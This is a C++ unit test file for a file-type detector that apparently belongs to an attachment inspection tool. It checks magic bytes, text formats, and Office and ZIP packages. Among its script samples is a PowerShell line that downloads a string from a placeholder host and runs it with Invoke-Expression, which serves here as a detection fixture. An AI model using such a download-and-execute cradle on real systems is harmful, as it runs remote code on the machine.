#include "inspect/bytes.h"
#include "inspect/type.h"
#include "support/cfb_builder.h"
#include "support/ooxml_builder.h"

#include <catch2/catch.hpp>

using namespace keneki;
using namespace keneki::inspect;
using namespace keneki::test;
using namespace std::string_literals;

namespace {
std::string type_of(std::string_view content) {
    return std::string(detect_type(as_bytes(content)));
}

std::string at(std::size_t offset, std::string_view magic) {
    return std::string(offset, '\0') + std::string(magic) + std::string(600, '\0');
}
} // namespace

TEST_CASE("formats are told by their first bytes", "[inspect][type]") {
    struct Case {
        std::string type, content;
    };
    const auto c = GENERATE(values<Case>({
        {"empty", ""},
        {"exe", "MZ\x90\0\x03"s + std::string(100, '\0')},
        {"elf", "\x7f"
                "ELF\x02"},
        {"lnk", at(0, "L\0\0\0\x01\x14\x02\0\0\0\0\0\xC0\0\0\0\0\0\0\x46"s)},
        {"onenote", at(0, "\xE4\x52\x5C\x7B\x8C\xD8\xA7\x4D\xAE\xB1\x53\x78\xD0\x29\x96\xD3")},
        {"7z", at(0, "7z\xBC\xAF\x27\x1C")},
        {"rar", at(0, "Rar!\x1A\x07\x00"s)},
        {"cab", at(0, "MSCF\0\0\0\0"s)},
        {"lzh", at(0, "\x20\x20-lh5-")},
        {"gzip", at(0, "\x1F\x8B\x08")},
        {"iso", at(32769, "CD001")},
        {"udf", at(32769, "BEA01")},
        {"vhd", at(0, "conectix")},
        {"vhdx", at(0, "vhdxfile")},
        {"tar", at(257, "ustar")},
        {"pdf", "%PDF-1.7\n"},
        {"pdf", std::string(1000, ' ') + "%PDF-1.7\n"},
        {"png", "\x89PNG\r\n\x1A\n"},
        {"tnef", "\x78\x9F\x3E\x22"s + "xx"},
        {"zip", "PK\x03\x04 broken"},
        {"chm", "ITSF\x03"},
    }));
    CAPTURE(c.type);
    CHECK(type_of(c.content) == c.type);
}

TEST_CASE("text-like content is told by what it says", "[inspect][type]") {
    struct Case {
        std::string type, content;
    };
    const auto c = GENERATE(values<Case>({
        {"html", "\xEF\xBB\xBF  <!-- x --><!DOCTYPE html><html>"},
        {"html", "<script>var a=1</script>"},
        {"svg", "<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\"/>"},
        {"xml", "<?xml version=\"1.0\"?><root/>"},
        {"rtf", "{\\rtf1\\ansi text}"},
        {"rtf", "{\\rt text}"},
        {"url", "[InternetShortcut]\r\nURL=file://192.0.2.1/x\r\n"},
        {"url", "<?xml version=\"1.0\"?><libraryDescription xmlns=\"x\">"},
        {"url", "WEB\r\n1\r\nhttp://example.test/"},
        {"eml", "From: a@example.test\r\nTo: b@example.test\r\nSubject: x\r\n\r\ntext"},
        {"mht", "From: <Saved>\r\nSubject: x\r\nMIME-Version: 1.0\r\nContent-Type: "
                "multipart/related; boundary=b\r\n\r\n--b"},
        {"pgp", "-----BEGIN PGP MESSAGE-----\n"},
        {"text", "ご確認をお願いします。\n"},
        {"text", "a,b,c\n1,2,3\n"},
        {"unknown", "\x01\x02\x03\x00\x05\x06"s},
        {"script", "@echo off\r\nstart calc\r\n"},
        {"script", "#@~^AAAA==abc"},
        {"script", "Dim s\r\nSet s = CreateObject(\"WScript.Shell\")\r\ns.Run \"calc\"\r\n"},
        {"script", "var s = new ActiveXObject('WScript.Shell');\ns.run('calc');"},
        {"script", "\xFF\xFE"
                   "@\0e\0c\0h\0o\0 \0o\0f\0f\0"s},
        {"script", "<html><head><hta:application id=x></head></html>"},
        {"script", "<job id=\"a\"><script language=\"VBScript\">x</script></job>"},
        {"script", "$c = New-Object Net.WebClient; Invoke-Expression "
                   "$c.DownloadString('http://example.test')"},
    }));
    CAPTURE(c.content);
    CHECK(type_of(c.content) == c.type);
}

TEST_CASE("prose, patches and plain code are not scripts", "[inspect][type]") {
    const auto text = GENERATE(values<std::string>({
        "Yesterday I ran CreateObject(\"WScript.Shell\") and powershell -ExecutionPolicy bypass, "
        "and it hung.\n",
        "diff --git a/x.vbs b/x.vbs\n+Set s = CreateObject(\"WScript.Shell\")\n+WScript.Echo s\n",
        "> Set s = CreateObject(\"WScript.Shell\")\n> WScript.Echo 1\n",
        "function add(a, b) { return a + b; }\nmodule.exports = add;\n",
        "#include <stdio.h>\nint main(void) { return 0; }\n",
        "2024-01-01 12:00:00 powershell started\n2024-01-01 12:00:01 cmd.exe /c dir\n",
        "if you agree, please reply.\n",
    }));
    CAPTURE(text);
    CHECK(type_of(text) == "text");
}

TEST_CASE("packages are told by their parts", "[inspect][type]") {
    CHECK(type_of(OoxmlBuilder().build()) == "docx");
    CHECK(type_of(OoxmlBuilder(
                      "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml")
                      .build()) == "xlsx");
    CHECK(
        type_of(OoxmlBuilder("application/vnd.ms-excel.sheet.binary.macroEnabled.main").build()) ==
        "xlsb");
    CHECK(type_of(OoxmlBuilder("application/vnd.ms-word.document.macroEnabled.main+xml").build()) ==
          "docm");
    CHECK(type_of(OoxmlBuilder().part("word/vbaProject.bin", "x").build()) == "docm");
    CHECK(type_of(ZipBuilder().add("a.txt", "x").build()) == "zip");
    CHECK(type_of(ZipBuilder().add("META-INF/MANIFEST.MF", "x").add("A.class", "x").build()) ==
          "jar");
    CHECK(type_of(ZipBuilder().add("AppxManifest.xml", "x").build()) == "msix");
    ZipBuilder odf;
    odf.add({.name = "mimetype",
             .data = "application/vnd.oasis.opendocument.text",
             .deflate = false,
             .local_name = {}});
    CHECK(type_of(odf.build()) == "odf");
}

TEST_CASE("compound files are told by their streams", "[inspect][type]") {
    CHECK(type_of(CfbBuilder().stream("WordDocument", "x").build()) == "doc");
    CHECK(type_of(CfbBuilder().stream("Workbook", "x").build()) == "xls");
    CHECK(type_of(CfbBuilder().stream("Book", "x").build()) == "xls");
    CHECK(type_of(CfbBuilder().stream("PowerPoint Document", "x").build()) == "ppt");
    CHECK(type_of(CfbBuilder().stream("__nameid_version1.0", "x").build()) == "msg");
    CHECK(type_of(CfbBuilder().stream("Other", "x").build()) == "ole");
    CHECK(
        type_of(
            CfbBuilder().clsid("\x84\x10\x0C\x00\x00\x00\x00\x00\xC0"s).stream("x", "x").build()) ==
        "msi");
    CHECK(type_of("\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1 cut off") == "ole");
}
